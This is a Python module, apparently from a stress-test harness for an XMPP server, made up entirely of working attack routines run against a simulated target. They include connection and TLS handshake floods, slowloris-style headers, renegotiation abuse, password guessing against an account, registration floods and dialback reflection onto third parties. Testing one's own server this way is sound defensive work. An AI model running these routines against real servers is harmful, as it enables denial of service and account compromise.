"""Attacks of whoever can reach the ports: 50 addresses, no account and no certificate."""

import base64
import itertools
import os
import socket
import ssl
import threading
import time

from . import ports
from .assault import STRANGERS, Hole, Pump, attack, client_hello, numbered, repeat, tls_flood
from .rawstream import SASL, RawStream


def crowd(scene, report, until, begin, per_address=20, reads=True, addresses=None):
    """`begin(source)` gives a stream and what it writes; so many of them from each address."""

    def again(source):
        stream, data = begin(source)
        report["connections"] += 1
        return stream, data

    pump = Pump(report, until)
    for source in list(addresses or scene.addresses) * per_address:
        try:
            pump.add(*again(source), reads=reads, again=lambda source=source: again(source))
        except (OSError, AttributeError, AssertionError):
            report["refused"] += 1
        if time.monotonic() > until:
            break
    pump.run().close()


@attack(STRANGERS, "5,000 connections that say nothing")
def idle_connections(scene, report, until):
    ports_of_office = itertools.cycle((scene.office.client_port, scene.office.server_port, scene.office.client_tls_port))
    crowd(scene, report, until, lambda source: (
        RawStream(scene.office.address, next(ports_of_office), source=source), None), 100)  # fmt: skip


@attack(STRANGERS, "headers that come byte by byte, before TLS and within it")
def slow_headers(scene, report, until):
    held = []
    letters = itertools.cycle(f"<stream:stream to='{'x' * 1000}' ".encode())
    for number, source in enumerate(scene.addresses * 6):
        try:
            stream = scene.stranger(source, opened=False, server=number % 2 == 0)
            if number % 3 == 0:
                stream = scene.stranger_over_tls(source, content="jabber:client")
            held.append(stream)
        except (OSError, ssl.SSLError):
            report["refused"] += 1
    while time.monotonic() < until:
        letter = bytes([next(letters)])
        for stream in held:
            try:
                stream.send(letter)
            except OSError:
                report["closed"] += 1
        time.sleep(0.2)


@attack(STRANGERS, "half a TLS handshake, 2,500 times")
def half_handshakes(scene, report, until):
    def begin(source):
        stream = RawStream(scene.office.address, scene.office.client_tls_port, source=source)
        stream.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return stream, None

    crowd(scene, report, until, begin, 50)


@attack(STRANGERS, "whole TLS handshakes as fast as they go", processes=2)
def handshakes(scene, report, until, process):
    context = ssl.create_default_context(cafile=str(scene.office.trust))
    for source in itertools.cycle(scene.addresses):
        if time.monotonic() > until:
            return
        try:
            with socket.create_connection((scene.office.address, scene.office.client_tls_port), 10, (source, 0)) as one:
                with context.wrap_socket(one, server_hostname=scene.office.domain):
                    report["handshakes"] += 1
        except (OSError, ssl.SSLError):
            report["refused"] += 1


@attack(STRANGERS, "the same first bytes of a handshake again and again, for which the server calculates", processes=2)
def hellos(scene, report, until, process):
    port, hello = scene.office.client_tls_port, client_hello(scene.office.domain)
    for source in itertools.cycle(scene.addresses[process::2]):
        if time.monotonic() > until:
            return
        try:
            with socket.create_connection((scene.office.address, port), 10, (source, 0)) as one:
                one.sendall(hello)
                report["hellos" if one.recv(4096) else "refused"] += 1
                # Without the courtesy of TCP: neither end remembers it.
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        except OSError:
            report["refused"] += 1


@attack(STRANGERS, "new keys asked for again and again (TLS 1.3)")
def key_updates(scene, report, until):
    tls_flood(scene, report, until, scene.addresses[:4], "keyupdate")


@attack(STRANGERS, "another handshake asked for again and again (TLS 1.2)")
def renegotiation(scene, report, until):
    tls_flood(scene, report, until, scene.addresses[:4], "renegotiate")


@attack(STRANGERS, "connections opened and closed as fast as it goes", processes=2)
def churn(scene, report, until, process):
    for number, source in enumerate(itertools.cycle(scene.addresses)):
        if time.monotonic() > until:
            return
        port = (scene.office.client_port, scene.office.server_port)[number % 2]
        try:
            with socket.create_connection((scene.office.address, port), 10, (source, 0)):
                report["connections"] += 1
        except OSError:
            report["refused"] += 1


@attack(STRANGERS, "streams closed in every state of a login")
def closed_everywhere(scene, report, until):
    for number, source in enumerate(itertools.cycle(scene.addresses)):
        if time.monotonic() > until:
            return
        try:
            stream = RawStream(scene.office.address, scene.office.client_tls_port, source=source)
            step = number % 6
            if step > 0:
                stream.begin_tls(scene.office.domain, scene.office.trust)
            if step > 1:
                stream.send(stream.header(scene.office.domain))
            if step > 2:
                stream.send(f"<auth xmlns='{SASL}' mechanism='SCRAM-SHA-256'>")
            if step > 3:
                stream.send(base64.b64encode(b"n,,n=gina,r=abcdefgh").decode() + "</auth>")
            if step > 4:
                stream.send(f"<abort xmlns='{SASL}'/><auth xmlns='{SASL}' mechanism='PLAIN'>AGEAYg==</auth>")
            stream.close()
            report["connections"] += 1
        except (OSError, ssl.SSLError):
            report["refused"] += 1


@attack(STRANGERS, "junk before login as fast as it goes")
def junk(scene, report, until):
    header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' "
    junks = itertools.cycle([
        repeat(os.urandom(4096)), repeat(" "), repeat(f"{header}to='{scene.office.domain}' version='1.0'>" + "<a>" * 1000),
        repeat(header + "a='" + "x" * 10_000), repeat("GET / HTTP/1.1\r\n\r\n"),
    ])  # fmt: skip
    crowd(scene, report, until, lambda source: (scene.stranger(source, opened=False, server=False), next(junks)), 4)


def _guess(user, number):
    return base64.b64encode(f"\0{user}\0wrong{number}".encode()).decode()


@attack(STRANGERS, "wrong passwords for the bystander's account (PLAIN)", processes=2)
def wrong_passwords(scene, report, until, process):
    _guesses(scene, report, until, lambda number: "gina")


@attack(STRANGERS, "wrong passwords for invented names, then for the bystander's", processes=2)
def invented_names(scene, report, until, process):
    _guesses(scene, report, until, lambda number: "gina" if number % 100 == 99 else f"n{process}x{number}")


def _guesses(scene, report, until, name):
    numbers = itertools.count()
    for source in itertools.cycle(scene.addresses):
        if time.monotonic() > until:
            return
        try:
            with scene.stranger_over_tls(source, content="jabber:client") as stream:
                for _ in range(5):
                    number = next(numbers)
                    stream.send(f"<auth xmlns='{SASL}' mechanism='PLAIN'>{_guess(name(number), number)}</auth>")
                    answer = stream.read()
                    if answer is None:
                        report["closed"] += 1
                        break
                    report["LET IN" if answer.tag.endswith("success") else answer.tag.rpartition("}")[2]] += 1
        except (OSError, ssl.SSLError, AttributeError):
            report["refused"] += 1


@attack(STRANGERS, "SCRAM begun and broken off", processes=2)
def broken_scram(scene, report, until, process):
    first = base64.b64encode(b"n,,n=gina,r=abcdefgh").decode()
    for source in itertools.cycle(scene.addresses):
        if time.monotonic() > until:
            return
        try:
            with scene.stranger_over_tls(source, content="jabber:client") as stream:
                for _ in range(20):
                    stream.send(f"<auth xmlns='{SASL}' mechanism='SCRAM-SHA-256'>{first}</auth><abort xmlns='{SASL}'/>")
                    if stream.read() is None or stream.read() is None:
                        report["closed"] += 1
                        break
                    report["begun"] += 1
        except (OSError, ssl.SSLError, AttributeError):
            report["refused"] += 1


@attack(STRANGERS, "registration without being invited", processes=2)
def registrations(scene, report, until, process):
    for number, source in enumerate(itertools.cycle(scene.addresses)):
        if time.monotonic() > until:
            return
        try:
            with scene.stranger_over_tls(source, content="jabber:client") as stream:
                stream.send("".join(
                    f"<iq type='set' id='r'><query xmlns='jabber:iq:register'><username>x{process}x{number}x{each}</username>"
                    "<password>a secret of many letters</password></query></iq>" for each in range(20)))  # fmt: skip
                report["asked"] += 20
                if (answer := stream.read()) is not None:
                    report[f"registration {answer.get('type') or answer.tag.rpartition('}')[2]}"] += 1
        except (OSError, ssl.SSLError, AttributeError):
            report["refused"] += 1


# Making us call somebody

DIALBACK = "xmlns:db='jabber:server:dialback'"


def dialbacks(scene, report, until, domain):
    """Nine addresses, four streams each, with as many claims as one stream may have waiting; the next ones when they are answered."""
    numbers = itertools.count()

    def begin(source):
        stream = scene.stranger_over_tls(source, f"{DIALBACK} from='{domain(0)}'")
        return stream, numbered(lambda _: claim(scene, domain(next(numbers))), limit=16)

    crowd(scene, report, until, begin, 4, addresses=scene.addresses[:9])


def claim(scene, domain):
    return f"<db:result from='{domain}' to='{scene.office.domain}'>{os.urandom(8).hex()}</db:result>"


@attack(STRANGERS, "claims to be domains that hang when they are called", redials=True)
def hanging_domains(scene, report, until):
    scene.hole = Hole(scene.hang_address, ports.SERVER)
    dialbacks(scene, report, until, lambda n: f"n{n}.hang.example")


@attack(STRANGERS, "claims to be domains of which DNS says nothing", redials=True)
def mute_domains(scene, report, until):
    dialbacks(scene, report, until, lambda n: f"n{n}.mute.example")


def _a_few_a_second(report, seconds):
    calls = report["calls to the third party"]
    return f"a third party was called {calls / seconds:.0f} times a second" if calls > 10 * seconds else None


def reflect(scene, report, until, domain, process):
    """One claim after the other, as soon as the last one is answered."""
    if process == 0:
        target = socket.create_server((scene.hang_address, ports.SERVER), backlog=512)
        threading.Thread(target=_count, args=(target, report), daemon=True).start()
    numbers = itertools.count(process, 3)
    for source in itertools.cycle(scene.addresses[process::3]):
        if time.monotonic() > until:
            return
        try:
            with scene.stranger_over_tls(source, f"{DIALBACK} from='{domain(0)}'") as stream:
                for _ in range(80):
                    stream.send(claim(scene, domain(next(numbers))))
                    report["claims"] += 1
                    if stream.read(max(0.1, until - time.monotonic())) is None:
                        break
        except (OSError, ssl.SSLError, AttributeError):
            report["refused"] += 1


def _count(target, report):
    while True:
        one, _ = target.accept()
        report["calls to the third party"] += 1
        one.close()


@attack(STRANGERS, "claims to be a third party's domain, which is then called", processes=3, check=_a_few_a_second)
def reflector(scene, report, until, process):
    reflect(scene, report, until, lambda n: "third.hang.example", process)


@attack(STRANGERS, "claims to be many domains of one third party", processes=3, check=_a_few_a_second)
def reflector_of_many_names(scene, report, until, process):
    reflect(scene, report, until, lambda n: f"n{n}.hang.example", process)


@attack(STRANGERS, "keys to be verified, on 450 streams")
def verifications(scene, report, until):
    def begin(source):
        stream = scene.stranger_over_tls(source, f"{DIALBACK} from='n.evil.example'")
        return stream, numbered(
            lambda n: f"<db:verify from='n.evil.example' to='{scene.office.domain}' id='{n}'>{n:064x}</db:verify>")  # fmt: skip

    crowd(scene, report, until, begin, 9)
